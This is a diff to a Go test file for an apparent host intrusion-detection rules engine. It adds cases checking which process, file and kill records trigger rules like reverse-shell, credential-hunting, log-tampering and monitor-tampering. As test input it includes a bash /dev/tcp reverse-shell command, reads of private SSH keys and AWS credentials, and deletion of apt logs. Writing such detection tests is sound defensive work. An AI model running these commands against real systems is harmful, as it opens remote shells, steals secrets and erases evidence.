@@ -34,6 +34,15 @@ func proc(pid, uid uint32, exe string, args ...string) *record.Process {
 	return p
 }
 
+// withAncestry gives p the ancestors' executables, parent first.
+func withAncestry(p *record.Process, exes ...string) *record.Process {
+	p.Ancestry = nil
+	for i, exe := range exes {
+		p.Ancestry = append(p.Ancestry, record.Ancestor{PID: uint32(90 - i), Exe: exe})
+	}
+	return p
+}
+
 // child returns p started by parentExe (pid ppid).
 func child(p *record.Process, ppid uint32, parentExe string) *record.Process {
 	p.PPID = ppid
@@ -241,6 +250,17 @@ func ruleCases() []ruleCase {
 		{"reverse-shell", "nc listening on a port",
 			execRec(proc(100, alice, "/usr/bin/nc", "nc", "-l", "8080")),
 			nil},
+		{"reverse-shell", "echo cmd | bash -i: a pipe, not a socket",
+			execRec(proc(100, alice, "/usr/bin/bash", "bash", "-c", "echo id | bash -i")),
+			[]string{"network-code-in-command-line"}},
+
+		// network-code-in-command-line (info: a weak signal)
+		{"network-code-in-command-line", "python asking for its host name through socket",
+			execRec(proc(100, alice, "/usr/bin/python3", "python3", "-c", "import socket; print(socket.getfqdn())")),
+			[]string{"network-code-in-command-line"}},
+		{"network-code-in-command-line", "python printing",
+			execRec(proc(100, alice, "/usr/bin/python3", "python3", "-c", "print(42)")),
+			nil},
 
 		// exec-from-writable-dir
 		{"exec-from-writable-dir", "a program from /usr/bin",
@@ -260,6 +280,12 @@ func ruleCases() []ruleCase {
 			[]string{"exec-from-writable-dir"}},
 		{"exec-from-writable-dir", "a deleted binary",
 			execRec(proc(100, alice, "/usr/local/bin/tool", "tool"), func(e *record.Exec) { e.ExeDeleted = true }),
+			[]string{"exec-from-writable-dir"}},
+		{"exec-from-writable-dir", "go run's program in the build cache",
+			execRec(child(proc(100, alice, "/tmp/go-build2754/b001/exe/main"), 90, "/usr/lib/go-1.23/bin/go")),
+			nil},
+		{"exec-from-writable-dir", "a program in a go-build-like directory started by bash",
+			execRec(child(proc(100, alice, "/tmp/go-build2754/b001/exe/main"), 90, "/usr/bin/bash")),
 			[]string{"exec-from-writable-dir"}},
 		{"exec-from-writable-dir", "a failed exec from /tmp",
 			execRec(proc(100, alice, "/usr/bin/bash", "bash"), func(e *record.Exec) { e.Filename, e.Ret = []byte("/tmp/x"), -13 }),
@@ -340,6 +366,12 @@ func ruleCases() []ruleCase {
 			nil},
 
 		// log-tampering
+		{"log-tampering", "apt-get removing its own eipp.log.xz",
+			fileRec(proc(100, 0, "/usr/bin/apt-get"), "unlink", "/var/log/apt/eipp.log.xz", watch.ClassLogs),
+			nil},
+		{"log-tampering", "rm removing apt's history",
+			fileRec(proc(100, 0, "/usr/bin/rm"), "unlink", "/var/log/apt/history.log", watch.ClassLogs),
+			[]string{"log-tampering"}},
 		{"log-tampering", "/var/log/syslog opened for append",
 			openRec(proc(100, 104, "/usr/bin/logger"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oAppend),
 			nil},
@@ -428,6 +460,15 @@ func ruleCases() []ruleCase {
 		{"credential-hunting", "cat ~/.aws/credentials",
 			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.aws/credentials")),
 			[]string{"credential-hunting"}},
+		{"credential-hunting", "ssh-keygen making a key",
+			execRec(proc(100, alice, "/usr/bin/ssh-keygen", "ssh-keygen", "-t", "ed25519", "-f", "/home/alice/.ssh/id_ed25519")),
+			nil},
+		{"credential-hunting", "a public key named",
+			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.ssh/id_ed25519.pub")),
+			nil},
+		{"credential-hunting", "a private key read by cat",
+			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/bob/.ssh/id_ed25519")),
+			[]string{"credential-hunting"}},
 		{"credential-hunting", "cat /etc/hostname",
 			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/etc/hostname")),
 			nil},
@@ -439,6 +480,12 @@ func ruleCases() []ruleCase {
 			nil},
 
 		// sensitive-config-modified
+		{"sensitive-config-modified", "chage renaming its new /etc/shadow into place",
+			fileRec(proc(100, 0, "/usr/bin/chage"), "rename", "/etc/shadow", watch.ClassCredentials),
+			nil},
+		{"sensitive-config-modified", "a script renaming a new /etc/shadow into place",
+			fileRec(proc(100, 0, "/usr/bin/python3"), "rename", "/etc/shadow", watch.ClassCredentials),
+			[]string{"sensitive-config-modified"}},
 		{"sensitive-config-modified", "vim writing /etc/passwd",
 			openRec(proc(100, 0, "/usr/bin/vim"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oTrunc),
 			[]string{"sensitive-config-modified"}},
@@ -480,6 +527,27 @@ func ruleCases() []ruleCase {
 		// monitor-tampering (the engine's own pid stands for the monitor)
 		{"monitor-tampering", "kill aimed at the monitor",
 			sysRec(proc(100, 0, "/usr/bin/kill", "kill", "-9", strconv.Itoa(self)), "kill", 0, arg("pid", int64(self)), arg("sig", "SIGKILL")),
+			[]string{"monitor-tampering"}},
+		{"monitor-tampering", "kill -0: a liveness probe, nothing delivered",
+			sysRec(proc(100, 0, "/usr/bin/kill", "kill", "-0", strconv.Itoa(self)), "kill", 0, arg("pid", int64(self)), arg("signal", "0")),
+			[]string{"monitor-signalled"}},
+		{"monitor-tampering", "SIGTERM from a user's shell",
+			sysRec(proc(100, 0, "/usr/bin/bash"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGTERM")),
+			[]string{"monitor-tampering"}},
+		{"monitor-tampering", "SIGTERM from init (a planned stop)",
+			sysRec(child(proc(1, 0, "/usr/lib/systemd/systemd"), 0, ""), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGTERM")),
+			[]string{"monitor-signalled"}},
+		{"monitor-tampering", "SIGHUP from logrotate's pkill",
+			sysRec(withAncestry(proc(100, 0, "/usr/bin/pkill"), "/usr/bin/dash", "/usr/sbin/logrotate"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGHUP")),
+			[]string{"monitor-signalled"}},
+		{"monitor-tampering", "SIGHUP from pkill in a user's shell",
+			sysRec(proc(100, 0, "/usr/bin/pkill"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGHUP")),
+			[]string{"monitor-tampering"}},
+		{"monitor-signalled", "SIGTERM from the service manager's kill (ExecStop)",
+			sysRec(child(proc(100, 0, "/usr/bin/kill"), 1, "/usr/lib/systemd/systemd"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGTERM")),
+			[]string{"monitor-signalled"}},
+		{"monitor-signalled", "SIGKILL from the service manager's child",
+			sysRec(child(proc(100, 0, "/usr/bin/kill"), 1, "/usr/lib/systemd/systemd"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGKILL")),
 			[]string{"monitor-tampering"}},
 		{"monitor-tampering", "ptrace attach to the monitor",
 			callRec(proc(100, 0, "/usr/bin/python3"), unix.SYS_PTRACE, uint32(self), unix.PTRACE_ATTACH, uint64(self)),
@@ -654,7 +722,7 @@ func TestPolicyRaisingASeverityChangesTheRecordsSeverity(t *testing.T) {
 
 func TestPolicyLoweringASeverityLowersTheRecord(t *testing.T) {
 	e := rules.NewEngine(mustParse(t, "rules:\n  reverse-shell:\n    severity: info\n"))
-	r := execRec(proc(100, 1000, "/usr/bin/bash", "bash", "-i"))
+	r := execRec(proc(100, 1000, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
 	e.Evaluate(&r)
 	if got := ruleNames(&r); !slices.Equal(got, []string{"reverse-shell"}) {
 		t.Fatalf("rules = %q, want reverse-shell", got)
